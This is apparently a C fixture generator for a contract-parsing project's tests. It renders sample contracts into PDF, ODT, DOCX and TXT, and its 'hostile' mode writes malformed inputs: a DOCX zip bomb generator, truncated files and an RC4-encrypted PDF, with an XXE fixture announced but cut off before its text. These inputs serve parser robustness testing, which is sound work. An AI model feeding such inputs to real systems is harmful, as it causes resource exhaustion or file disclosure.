/* make-contract-fixtures.c
 *
 * Copyright 2026 The Contract Scope Authors
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

/*
 * Writes the contract reader's fixtures of tests/data/contracts/ (committed; run again after
 * changing a source text):
 *
 *   make-contract-fixtures render SOURCE.src OUTPUT-STEM
 *     SOURCE.src: "= TITLE", "# Heading" and paragraphs, one a line, blank lines between.
 *     Writes OUTPUT-STEM.pdf (cairo + pango: A4, a running header, a "Page N of M" footer,
 *     lines wrapped by hand with words hyphenated at line ends), .odt and .docx (zipped XML
 *     written with libzip, page breaks where the PDF's pages break), .numbered.docx (the same,
 *     its article, clause and annex numbers from Word's automatic lists in word/numbering.xml),
 *     .styled.docx (the same lists attached to paragraph styles in word/styles.xml) and .txt
 *     (form feeds there).
 *   make-contract-fixtures hostile DIRECTORY
 *     Writes the hostile documents: a DOCX zip bomb, a DOCX with an XXE entity, a DOCX with an
 *     external DTD, a truncated PDF and DOCX, and a PDF protected by the user password
 *     "secret" (standard security handler, revision 2, RC4 40 bits, written by hand below:
 *     cairo cannot encrypt and qpdf is not among our dependencies).
 */

#include <cairo-pdf.h>
#include <glib.h>
#include <glib/gstdio.h>
#include <pango/pangocairo.h>
#include <string.h>
#include <zip.h>

#define PAGE_W   595.0
#define PAGE_H   842.0
#define MARGIN_X 72.0
#define TOP      90.0
#define BOTTOM   760.0
#define BODY_PT  11
#define LINE_H   16.0

typedef struct
{
  int    level;      /* 0 body, 1 heading, 2 title */
  char  *text;
  guint  page;       /* the page the paragraph starts on */
} Para;

typedef struct
{
  char   *text;
  double  y;
  guint   page;
  gboolean bold;
} Line;

static GArray *
read_source (const char *path)
{
  g_autofree char *contents = NULL;
  g_auto(GStrv) lines = NULL;
  GArray *paras = g_array_new (FALSE, TRUE, sizeof (Para));
  g_autoptr(GError) error = NULL;

  if (!g_file_get_contents (path, &contents, NULL, &error))
    g_error ("%s", error->message);
  lines = g_strsplit (contents, "\n", -1);
  for (guint i = 0; lines[i] != NULL; i++)
    {
      Para para = { 0, NULL, 0 };

      if (*lines[i] == '\0')
        continue;
      if (g_str_has_prefix (lines[i], "= "))
        para.level = 2, para.text = g_strdup (lines[i] + 2);
      else if (g_str_has_prefix (lines[i], "# "))
        para.level = 1, para.text = g_strdup (lines[i] + 2);
      else
        para.text = g_strdup (lines[i]);
      g_array_append_val (paras, para);
    }
  return paras;
}

static double
text_width (PangoLayout *layout,
            const char  *text)
{
  int w = 0;

  pango_layout_set_text (layout, text, -1);
  pango_layout_get_size (layout, &w, NULL);
  return (double) w / PANGO_SCALE;
}

static gboolean
splittable (const char *word,
            glong       at)
{
  const char *p = g_utf8_offset_to_pointer (word, at);
  gunichar before = g_utf8_get_char (g_utf8_prev_char (p));
  gunichar after = g_utf8_get_char (p);

  return g_unichar_isalpha (before) && g_unichar_islower (after)
         && strchr (word, '-') == NULL && strchr (word, '\'') == NULL;
}

/* Wraps @text into lines no wider than the text column, hyphenating long words. */
static GPtrArray *
wrap (PangoLayout *layout,
      const char  *text)
{
  GPtrArray *out = g_ptr_array_new_with_free_func (g_free);
  g_auto(GStrv) words = g_strsplit (text, " ", -1);
  g_autoptr(GString) line = g_string_new (NULL);
  double width = PAGE_W - 2 * MARGIN_X;

  for (guint i = 0; words[i] != NULL; i++)
    {
      g_autofree char *candidate = line->len > 0 ? g_strconcat (line->str, " ", words[i], NULL)
                                                 : g_strdup (words[i]);
      glong n = g_utf8_strlen (words[i], -1);
      gboolean split = FALSE;

      if (text_width (layout, candidate) <= width)
        {
          g_string_assign (line, candidate);
          continue;
        }
      for (glong k = n - 3; n >= 8 && k >= 4; k--)
        {
          g_autofree char *head = g_utf8_substring (words[i], 0, k);
          g_autofree char *try = g_strconcat (line->str, line->len > 0 ? " " : "", head, "-", NULL);

          if (!splittable (words[i], k) || text_width (layout, try) > width)
            continue;
          g_ptr_array_add (out, g_strdup (try));
          g_string_assign (line, g_utf8_offset_to_pointer (words[i], k));
          split = TRUE;
          break;
        }
      if (split)
        continue;
      g_ptr_array_add (out, g_strdup (line->str));
      g_string_assign (line, words[i]);
    }
  if (line->len > 0)
    g_ptr_array_add (out, g_strdup (line->str));
  return out;
}

/* Lays the paragraphs out on pages; returns the lines and sets each paragraph's page. */
static GArray *
layout_lines (GArray  *paras,
              guint   *out_n_pages)
{
  cairo_surface_t *surface = cairo_pdf_surface_create (NULL, PAGE_W, PAGE_H);
  cairo_t *cr = cairo_create (surface);
  PangoLayout *layout = pango_cairo_create_layout (cr);
  GArray *lines = g_array_new (FALSE, TRUE, sizeof (Line));
  double y = TOP;
  guint page = 1;

  for (guint i = 0; i < paras->len; i++)
    {
      Para *para = &g_array_index (paras, Para, i);
      g_autoptr(PangoFontDescription) font = pango_font_description_from_string (
        para->level > 0 ? "DejaVu Serif Bold 11" : "DejaVu Serif 11");
      g_autoptr(GPtrArray) wrapped = NULL;

      pango_layout_set_font_description (layout, font);
      wrapped = wrap (layout, para->text);
      if (para->level > 0 && y + 3 * LINE_H > BOTTOM)
        y = BOTTOM + 1;
      for (guint k = 0; k < wrapped->len; k++)
        {
          Line line = { g_strdup (g_ptr_array_index (wrapped, k)), 0, 0, para->level > 0 };

          if (y + LINE_H > BOTTOM)
            {
              page++;
              y = TOP;
            }
          if (k == 0)
            para->page = page;
          line.y = y;
          line.page = page;
          g_array_append_val (lines, line);
          y += LINE_H;
        }
      y += para->level > 0 ? LINE_H * 0.6 : LINE_H * 0.5;
    }

  g_object_unref (layout);
  cairo_destroy (cr);
  cairo_surface_destroy (surface);
  *out_n_pages = page;
  return lines;
}

static void
show (cairo_t    *cr,
      const char *font_name,
      const char *text,
      double      x,
      double      y)
{
  PangoLayout *layout = pango_cairo_create_layout (cr);
  PangoFontDescription *font = pango_font_description_from_string (font_name);

  pango_layout_set_font_description (layout, font);
  pango_layout_set_text (layout, text, -1);
  cairo_move_to (cr, x, y);
  pango_cairo_show_layout (cr, layout);
  pango_font_description_free (font);
  g_object_unref (layout);
}

static void
write_pdf (GArray     *lines,
           guint       n_pages,
           const char *header,
           gboolean    french,
           const char *path)
{
  cairo_surface_t *surface = cairo_pdf_surface_create (path, PAGE_W, PAGE_H);
  cairo_t *cr = cairo_create (surface);
  guint page = 0;

  cairo_pdf_surface_set_metadata (surface, CAIRO_PDF_METADATA_CREATE_DATE, "2026-01-15T10:00:00Z");
  for (guint i = 0; i <= lines->len; i++)
    {
      Line *line = i < lines->len ? &g_array_index (lines, Line, i) : NULL;

      if (line == NULL || line->page != page)
        {
          if (page > 0)
            {
              g_autofree char *footer = g_strdup_printf (french ? "Page %u sur %u" : "Page %u of %u",
                                                         page, n_pages);

              show (cr, "DejaVu Sans 9", header, MARGIN_X, 40);
              show (cr, "DejaVu Sans 9", footer, PAGE_W / 2 - 30, 790);
              cairo_show_page (cr);
            }
          if (line == NULL)
            break;
          page = line->page;
        }
      show (cr, line->bold ? "DejaVu Serif Bold 11" : "DejaVu Serif 11", line->text, MARGIN_X, line->y);
    }
  cairo_destroy (cr);
  cairo_surface_finish (surface);
  if (cairo_surface_status (surface) != CAIRO_STATUS_SUCCESS)
    g_error ("cannot write %s", path);
  cairo_surface_destroy (surface);
}

static void
add_entry (zip_t      *zip,
         const char *name,
         const char *data,
         gsize       length,
         gboolean    store)
{
  zip_source_t *source = zip_source_buffer (zip, g_memdup2 (data, length), length, 1);
  zip_int64_t index = zip_file_add (zip, name, source, ZIP_FL_OVERWRITE | ZIP_FL_ENC_UTF_8);

  if (index < 0)
    g_error ("zip: %s", zip_strerror (zip));
  zip_set_file_compression (zip, index, store ? ZIP_CM_STORE : ZIP_CM_DEFLATE, 9);
  zip_file_set_mtime (zip, index, 1768471200, 0);
}

static zip_t *
create_zip (const char *path)
{
  int error = 0;
  zip_t *zip = NULL;

  g_unlink (path);
  zip = zip_open (path, ZIP_CREATE | ZIP_TRUNCATE, &error);
  if (zip == NULL)
    g_error ("cannot create %s", path);
  return zip;
}

static void
finish_zip (zip_t *zip)
{
  if (zip_close (zip) != 0)
    g_error ("zip: %s", zip_strerror (zip));
}

static void
write_odt (GArray     *paras,
           const char *path)
{
  zip_t *zip = create_zip (path);
  g_autoptr(GString) xml = g_string_new (
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
    "<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\""
    " xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" office:version=\"1.3\">"
    "<office:body><office:text>\n");
  guint page = 1;
  const char *mimetype = "application/vnd.oasis.opendocument.text";
  const char *manifest =
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
    "<manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\" manifest:version=\"1.3\">"
    "<manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\"application/vnd.oasis.opendocument.text\"/>"
    "<manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\"/>"
    "</manifest:manifest>\n";

  for (guint i = 0; i < paras->len; i++)
    {
      Para *para = &g_array_index (paras, Para, i);
      g_autofree char *escaped = g_markup_escape_text (para->text, -1);

      for (; page < para->page; page++)
        g_string_append (xml, "<text:soft-page-break/>\n");
      if (para->level == 1)
        g_string_append_printf (xml, "<text:h text:outline-level=\"1\">%s</text:h>\n", escaped);
      else if (para->level == 2)
        g_string_append_printf (xml, "<text:p text:style-name=\"Title\">%s</text:p>\n", escaped);
      else
        g_string_append_printf (xml, "<text:p text:style-name=\"Text_20_body\">%s</text:p>\n", escaped);
    }
  g_string_append (xml, "</office:text></office:body></office:document-content>\n");

  add_entry (zip, "mimetype", mimetype, strlen (mimetype), TRUE);
  add_entry (zip, "META-INF/manifest.xml", manifest, strlen (manifest), FALSE);
  add_entry (zip, "content.xml", xml->str, xml->len, FALSE);
  finish_zip (zip);
}

static const char *docx_types =
  "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
  "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
  "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
  "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
  "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>"
  "</Types>\n";
static const char *docx_rels =
  "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
  "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
  "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/>"
  "</Relationships>\n";
#define DOCX_HEAD "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
#define DOCX_ROOT "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>\n"
#define DOCX_TAIL "</w:body></w:document>\n"

static void
write_docx_part (const char *path,
                 const char *document,
                 gsize       length)
{
  zip_t *zip = create_zip (path);

  add_entry (zip, "[Content_Types].xml", docx_types, strlen (docx_types), FALSE);
  add_entry (zip, "_rels/.rels", docx_rels, strlen (docx_rels), FALSE);
  add_entry (zip, "word/document.xml", document, length, FALSE);
  finish_zip (zip);
}

static void
write_docx (GArray     *paras,
            const char *path)
{
  g_autoptr(GString) xml = g_string_new (DOCX_HEAD DOCX_ROOT);
  guint page = 1;

  for (guint i = 0; i < paras->len; i++)
    {
      Para *para = &g_array_index (paras, Para, i);
      g_autofree char *escaped = g_markup_escape_text (para->text, -1);

      g_string_append (xml, "<w:p>");
      if (para->level > 0)
        g_string_append_printf (xml, "<w:pPr><w:pStyle w:val=\"%s\"/></w:pPr>",
                                para->level == 1 ? "Heading1" : "Title");
      for (; page < para->page; page++)
        g_string_append (xml, "<w:r><w:lastRenderedPageBreak/></w:r>");
      g_string_append_printf (xml, "<w:r><w:t xml:space=\"preserve\">%s</w:t></w:r></w:p>\n", escaped);
    }
  g_string_append (xml, DOCX_TAIL);
  write_docx_part (path, xml->str, xml->len);
}

/* The DOCX as Word writes automatic numbering: "Article N", "N.M" and the annexes' "N." come
 * from word/numbering.xml (w:numPr on the paragraph), not from the text. Only numbers that
 * follow on from the previous ones are turned into list items, so the reader must count as
 * Word does to give the same references. */
static const char *numbered_types =
  "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
  "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
  "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
  "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
  "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>"
  "<Override PartName=\"/word/numbering.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.numbering+xml\"/>"
  "</Types>\n";
static const char *numbered_document_rels =
  "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
  "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
  "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/numbering\" Target=\"numbering.xml\"/>"
  "</Relationships>\n";

/* The .styled.docx: the same lists, attached to paragraph styles as Word does for a numbered
 * "Heading 1" (in French a custom "Titre Article", a heading by its w:outlineLvl) or a custom
 * clause style (w:numPr in word/styles.xml, "Clause" inheriting its numbering through
 * w:basedOn); the annexes' headings change list on the paragraph and the
 * unnumbered headings take the numbering away with a w:numId of 0. */
static const char *styled_types =
  "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
  "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
  "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
  "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
  "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>"
  "<Override PartName=\"/word/numbering.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.numbering+xml\"/>"
  "<Override PartName=\"/word/styles.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml\"/>"
  "</Types>\n";
static const char *styled_document_rels =
  "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
  "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
  "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/numbering\" Target=\"numbering.xml\"/>"
  "<Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles\" Target=\"styles.xml\"/>"
  "</Relationships>\n";
static const char *styles_xml =
  "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
  "<w:styles xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
  "<w:style w:type=\"paragraph\" w:default=\"1\" w:styleId=\"Normal\"><w:name w:val=\"Normal\"/></w:style>"
  "<w:style w:type=\"paragraph\" w:styleId=\"Title\"><w:name w:val=\"Title\"/><w:basedOn w:val=\"Normal\"/></w:style>"
  "<w:style w:type=\"paragraph\" w:styleId=\"Heading1\"><w:name w:val=\"heading 1\"/><w:basedOn w:val=\"Normal\"/>"
  "<w:pPr><w:numPr><w:numId w:val=\"1\"/></w:numPr><w:outlineLvl w:val=\"0\"/></w:pPr></w:style>"
  "<w:style w:type=\"paragraph\" w:styleId=\"TitreArticle\"><w:name w:val=\"Titre Article\"/><w:basedOn w:val=\"Normal\"/>"
  "<w:pPr><w:numPr><w:numId w:val=\"1\"/></w:numPr><w:outlineLvl w:val=\"0\"/></w:pPr></w:style>"
  "<w:style w:type=\"paragraph\" w:styleId=\"ClauseBase\"><w:name w:val=\"Clause Base\"/><w:basedOn w:val=\"Normal\"/>"
  "<w:pPr><w:numPr><w:ilvl w:val=\"1\"/><w:numId w:val=\"1\"/></w:numPr></w:pPr></w:style>"
  "<w:style w:type=\"paragraph\" w:styleId=\"Clause\"><w:name w:val=\"Clause\"/><w:basedOn w:val=\"ClauseBase\"/></w:style>"
  "<w:style w:type=\"paragraph\" w:styleId=\"AnnexItem\"><w:name w:val=\"Annex Item\"/><w:basedOn w:val=\"Normal\"/>"
  "<w:pPr><w:numPr><w:ilvl w:val=\"1\"/><w:numId w:val=\"2\"/></w:numPr></w:pPr></w:style>"
  "</w:styles>\n";

static char *
numbering_xml (gboolean french)
{
  return g_strdup_printf (
    "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
    "<w:numbering xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
    "<w:abstractNum w:abstractNumId=\"0\">"
    "<w:lvl w:ilvl=\"0\"><w:start w:val=\"1\"/><w:numFmt w:val=\"decimal\"/><w:lvlText w:val=\"Article %%1\"/></w:lvl>"
    "<w:lvl w:ilvl=\"1\"><w:start w:val=\"1\"/><w:numFmt w:val=\"decimal\"/><w:lvlText w:val=\"%%1.%%2\"/></w:lvl>"
    "</w:abstractNum>"
    "<w:abstractNum w:abstractNumId=\"1\">"
    "<w:lvl w:ilvl=\"0\"><w:start w:val=\"1\"/><w:numFmt w:val=\"decimal\"/><w:lvlText w:val=\"%s %%1\"/></w:lvl>"
    "<w:lvl w:ilvl=\"1\"><w:start w:val=\"1\"/><w:numFmt w:val=\"decimal\"/><w:lvlText w:val=\"%%2.\"/></w:lvl>"
    "</w:abstractNum>"
    "<w:num w:numId=\"1\"><w:abstractNumId w:val=\"0\"/></w:num>"
    "<w:num w:numId=\"2\"><w:abstractNumId w:val=\"1\"/></w:num>"
    "</w:numbering>\n", french ? "Annexe" : "Annex");
}

/* Splits "PREFIX N REST" ("Article 4 – Service levels"); FALSE when @text is not one. */
static gboolean
split_number (const char  *text,
              const char  *prefix,
              const char  *separator,
              guint       *out_n,
              const char **out_rest)
{
  char *end = NULL;
  guint64 n;

  if (!g_str_has_prefix (text, prefix) || !g_ascii_isdigit (text[strlen (prefix)]))
    return FALSE;
  n = g_ascii_strtoull (text + strlen (prefix), &end, 10);
  if (!g_str_has_prefix (end, separator))
    return FALSE;
  *out_n = (guint) n;
  *out_rest = end + strlen (separator);
  return TRUE;
}

/* The w:pPr of a .styled.docx paragraph: the list and level of @num_id and @ilvl through
 * the paragraph styles of styles_xml; the French contract's headings in the custom style
 * "Titre Article", a heading by its w:outlineLvl only, the others in "Heading 1". */
static void
append_styled_ppr (GString  *xml,
                   gboolean  french,
                   guint     level,
                   int       num_id,
                   int       ilvl)
{
  if (level == 1)
    g_string_append_printf (xml, "<w:pPr><w:pStyle w:val=\"%s\"/>%s</w:pPr>",
                            french ? "TitreArticle" : "Heading1",
                            num_id == 1 ? ""
                            : num_id == 2 ? "<w:numPr><w:numId w:val=\"2\"/></w:numPr>"
                            : "<w:numPr><w:numId w:val=\"0\"/></w:numPr>");
  else if (level > 1)
    g_string_append (xml, "<w:pPr><w:pStyle w:val=\"Title\"/></w:pPr>");
  else if (num_id > 0 && ilvl == 1)
    g_string_append_printf (xml, "<w:pPr><w:pStyle w:val=\"%s\"/></w:pPr>",
                            num_id == 1 ? "Clause" : "AnnexItem");
}

static void
write_docx_numbered (GArray     *paras,
                     gboolean    french,
                     gboolean    styled,
                     const char *path)
{
  g_autoptr(GString) xml = g_string_new (DOCX_HEAD DOCX_ROOT);
  g_autofree char *numbering = numbering_xml (french);
  const char *annex = french ? "Annexe " : "Annex ";
  guint page = 1, article = 0, clause = 0, annexe = 0, item = 0;
  int list = 0;   /* 1: in an article, 2: in an annex, 0: elsewhere */
  zip_t *zip;

  for (guint i = 0; i < paras->len; i++)
    {
      Para *para = &g_array_index (paras, Para, i);
      const char *text = para->text;
      const char *rest = NULL;
      g_autofree char *escaped = NULL;
      g_autofree char *article_prefix = NULL;
      int num_id = 0, ilvl = 0;
      guint n = 0, m = 0;

      if (para->level == 1)
        {
          list = 0;
          if (split_number (text, "Article ", " ", &n, &rest) && n == article + 1)
            {
              article = n;
              clause = 0;
              list = num_id = 1;
              text = rest;
            }
          else if (split_number (text, annex, " ", &n, &rest) && n == annexe + 1)
            {
              annexe = n;
              item = 0;
              list = num_id = 2;
              text = rest;
            }
        }
      else if (para->level == 0 && list == 1)
        {
          article_prefix = g_strdup_printf ("%u.", article);
          if (split_number (text, article_prefix, " ", &m, &rest) && m == clause + 1)
            {
              clause = m;
              num_id = 1;
              ilvl = 1;
              text = rest;
            }
        }
      else if (para->level == 0 && list == 2
               && split_number (text, "", ". ", &m, &rest) && m == item + 1)
        {
          item = m;
          num_id = 2;
          ilvl = 1;
          text = rest;
        }

      escaped = g_markup_escape_text (text, -1);
      g_string_append (xml, "<w:p>");
      if (styled)
        append_styled_ppr (xml, french, para->level, num_id, ilvl);
      else if (para->level > 0 || num_id > 0)
        {
          g_string_append (xml, "<w:pPr>");
          if (para->level > 0)
            g_string_append_printf (xml, "<w:pStyle w:val=\"%s\"/>",
                                    para->level == 1 ? "Heading1" : "Title");
          if (num_id > 0)
            g_string_append_printf (xml, "<w:numPr><w:ilvl w:val=\"%d\"/><w:numId w:val=\"%d\"/></w:numPr>",
                                    ilvl, num_id);
          g_string_append (xml, "</w:pPr>");
        }
      for (; page < para->page; page++)
        g_string_append (xml, "<w:r><w:lastRenderedPageBreak/></w:r>");
      g_string_append_printf (xml, "<w:r><w:t xml:space=\"preserve\">%s</w:t></w:r></w:p>\n", escaped);
    }
  g_string_append (xml, DOCX_TAIL);

  zip = create_zip (path);
  add_entry (zip, "[Content_Types].xml", styled ? styled_types : numbered_types,
             strlen (styled ? styled_types : numbered_types), FALSE);
  add_entry (zip, "_rels/.rels", docx_rels, strlen (docx_rels), FALSE);
  add_entry (zip, "word/_rels/document.xml.rels", styled ? styled_document_rels : numbered_document_rels,
             strlen (styled ? styled_document_rels : numbered_document_rels), FALSE);
  add_entry (zip, "word/document.xml", xml->str, xml->len, FALSE);
  add_entry (zip, "word/numbering.xml", numbering, strlen (numbering), FALSE);
  if (styled)
    add_entry (zip, "word/styles.xml", styles_xml, strlen (styles_xml), FALSE);
  finish_zip (zip);
  g_print ("%s: %u articles and %u annexes numbered by Word's lists%s\n", path, article, annexe,
           styled ? " through paragraph styles" : "");
}

static void
write_txt (GArray     *paras,
           const char *path)
{
  g_autoptr(GString) out = g_string_new (NULL);
  g_autoptr(GError) error = NULL;
  guint page = 1;

  for (guint i = 0; i < paras->len; i++)
    {
      Para *para = &g_array_index (paras, Para, i);
      g_auto(GStrv) words = g_strsplit (para->text, " ", -1);
      glong column = 0;

      for (; page < para->page; page++)
        g_string_append (out, "\f");
      for (guint k = 0; words[k] != NULL; k++)
        {
          glong n = g_utf8_strlen (words[k], -1);

          if (column > 0 && column + 1 + n > 78)
            {
              g_string_append_c (out, '\n');
              column = 0;
            }
          else if (column > 0)
            {
              g_string_append_c (out, ' ');
              column++;
            }
          g_string_append (out, words[k]);
          column += n;
        }
      g_string_append (out, "\n\n");
    }
  if (!g_file_set_contents (path, out->str, out->len, &error))
    g_error ("%s", error->message);
}

static void
render (const char *source,
        const char *stem)
{
  g_autoptr(GArray) paras = read_source (source);
  g_autoptr(GArray) lines = NULL;
  g_autofree char *pdf = g_strconcat (stem, ".pdf", NULL);
  g_autofree char *odt = g_strconcat (stem, ".odt", NULL);
  g_autofree char *docx = g_strconcat (stem, ".docx", NULL);
  g_autofree char *txt = g_strconcat (stem, ".txt", NULL);
  g_autofree char *numbered = g_strconcat (stem, ".numbered.docx", NULL);
  g_autofree char *styled = g_strconcat (stem, ".styled.docx", NULL);
  gboolean french = strstr (source, "-fr") != NULL;
  guint n_pages = 0;

  lines = layout_lines (paras, &n_pages);
  write_pdf (lines, n_pages, french ? "Contrat d'infogérance – Alpes Numérique / Boulangeries Marchand"
                                    : "Managed IT Services Agreement – NordTech Services / Harbour Logistics",
             french, pdf);
  write_odt (paras, odt);
  write_docx (paras, docx);
  write_docx_numbered (paras, french, FALSE, numbered);
  write_docx_numbered (paras, french, TRUE, styled);
  write_txt (paras, txt);
  g_print ("%s: %u pages\n", pdf, n_pages);
  for (guint i = 0; i < lines->len; i++)
    g_free (g_array_index (lines, Line, i).text);
  for (guint i = 0; i < paras->len; i++)
    g_free (g_array_index (paras, Para, i).text);
}


/* Hostile documents */

static const guint8 pdf_padding[32] = {
  0x28, 0xBF, 0x4E, 0x5E, 0x4E, 0x75, 0x8A, 0x41, 0x64, 0x00, 0x4E, 0x56, 0xFF, 0xFA, 0x01, 0x08,
  0x2E, 0x2E, 0x00, 0xB6, 0xD0, 0x68, 0x3E, 0x80, 0x2F, 0x0C, 0xA9, 0xFE, 0x64, 0x53, 0x69, 0x7A,
};

static void
rc4 (const guint8 *key,
     gsize         key_length,
     const guint8 *in,
     guint8       *out,
     gsize         length)
{
  guint8 s[256];
  guint i = 0, j = 0;

  for (i = 0; i < 256; i++)
    s[i] = i;
  for (i = 0, j = 0; i < 256; i++)
    {
      guint8 t = s[i];

      j = (j + s[i] + key[i % key_length]) & 0xFF;
      s[i] = s[j];
      s[j] = t;
    }
  i = j = 0;
  for (gsize k = 0; k < length; k++)
    {
      guint8 t = 0;

      i = (i + 1) & 0xFF;
      j = (j + s[i]) & 0xFF;
      t = s[i];
      s[i] = s[j];
      s[j] = t;
      out[k] = in[k] ^ s[(s[i] + s[j]) & 0xFF];
    }
}

static void
pad_password (const char *password,
              guint8      out[32])
{
  gsize n = MIN (strlen (password), 32);

  memcpy (out, password, n);
  memcpy (out + n, pdf_padding, 32 - n);
}

static void
md5 (const guint8 *data,
     gsize         length,
     guint8        out[16])
{
  GChecksum *sum = g_checksum_new (G_CHECKSUM_MD5);
  gsize n = 16;

  g_checksum_update (sum, data, length);
  g_checksum_get_digest (sum, out, &n);
  g_checksum_free (sum);
}

static void
append_hex (GString      *out,
            const guint8 *data,
            gsize         length)
{
  g_string_append_c (out, '<');
  for (gsize i = 0; i < length; i++)
    g_string_append_printf (out, "%02X", data[i]);
  g_string_append_c (out, '>');
}

/* A one-page PDF whose user password is "secret" (PDF 1.4, standard handler R2, 40 bits). */
static GString *
encrypted_pdf (void)
{
  static const guint8 id[16] = { 0x43, 0x53, 0x2d, 0x66, 0x69, 0x78, 0x74, 0x75,
                                 0x72, 0x65, 0x2d, 0x65, 0x6e, 0x63, 0x72, 0x79 };
  const gint32 permissions = -4;
  guint8 owner_pad[32], user_pad[32], digest[16], o[32], u[32], buffer[32 + 32 + 4 + 16];
  GString *pdf = g_string_new ("%PDF-1.4\n");
  gsize offsets[5];

  /* Algorithm 3: O = RC4 (MD5 (owner password)[0..5], user password) */
  pad_password ("owner-secret", owner_pad);
  md5 (owner_pad, 32, digest);
  pad_password ("secret", user_pad);
  rc4 (digest, 5, user_pad, o, 32);
  /* Algorithm 2 then 4: key = MD5 (user password, O, P, ID)[0..5]; U = RC4 (key, padding) */
  memcpy (buffer, user_pad, 32);
  memcpy (buffer + 32, o, 32);
  for (int i = 0; i < 4; i++)
    buffer[64 + i] = ((guint32) permissions >> (8 * i)) & 0xFF;
  memcpy (buffer + 68, id, 16);
  md5 (buffer, sizeof buffer, digest);
  rc4 (digest, 5, pdf_padding, u, 32);

  offsets[1] = pdf->len;
  g_string_append (pdf, "1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n");
  offsets[2] = pdf->len;
  g_string_append (pdf, "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n");
  offsets[3] = pdf->len;
  g_string_append (pdf, "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n");
  offsets[4] = pdf->len;
  g_string_append (pdf, "4 0 obj\n<< /Filter /Standard /V 1 /R 2 /O ");
  append_hex (pdf, o, 32);
  g_string_append (pdf, " /U ");
  append_hex (pdf, u, 32);
  g_string_append_printf (pdf, " /P %d >>\nendobj\n", permissions);
  offsets[0] = pdf->len;
  g_string_append (pdf, "xref\n0 5\n0000000000 65535 f \n");
  for (int i = 1; i < 5; i++)
    g_string_append_printf (pdf, "%010" G_GSIZE_FORMAT " 00000 n \n", offsets[i]);
  g_string_append (pdf, "trailer\n<< /Size 5 /Root 1 0 R /Encrypt 4 0 R /ID [");
  append_hex (pdf, id, 16);
  append_hex (pdf, id, 16);
  g_string_append_printf (pdf, "] >>\nstartxref\n%" G_GSIZE_FORMAT "\n%%%%EOF\n", offsets[0]);
  return pdf;
}

static void
write_file (const char *directory,
            const char *name,
            const char *data,
            gsize       length)
{
  g_autofree char *path = g_build_filename (directory, name, NULL);
  g_autoptr(GError) error = NULL;

  if (!g_file_set_contents (path, data, length, &error))
    g_error ("%s", error->message);
}

static void
write_bomb (const char *path,
            gsize       size)
{
  GString *xml = g_string_new (DOCX_HEAD DOCX_ROOT "<w:p><w:r><w:t>");
  gsize body = size - xml->len - 64;

  g_string_set_size (xml, xml->len + body);
  memset (xml->str + xml->len - body, 'a', body);
  g_string_append (xml, "</w:t></w:r></w:p>" DOCX_TAIL);
  write_docx_part (path, xml->str, xml->len);
  g_string_free (xml, TRUE);
}

static void
write_truncated (const char *from,
                 const char *to)
{
  g_autofree char *data = NULL;
  gsize length = 0;
  g_autoptr(GError) error = NULL;

  if (!g_file_get_contents (from, &data, &length, &error))
    g_error ("%s", error->message);
  if (!g_file_set_contents (to, data, length * 2 / 3, &error))
    g_error ("%s", error->message);
}

static void
write_hostile (const char *directory)
{
  static const char *xxe =
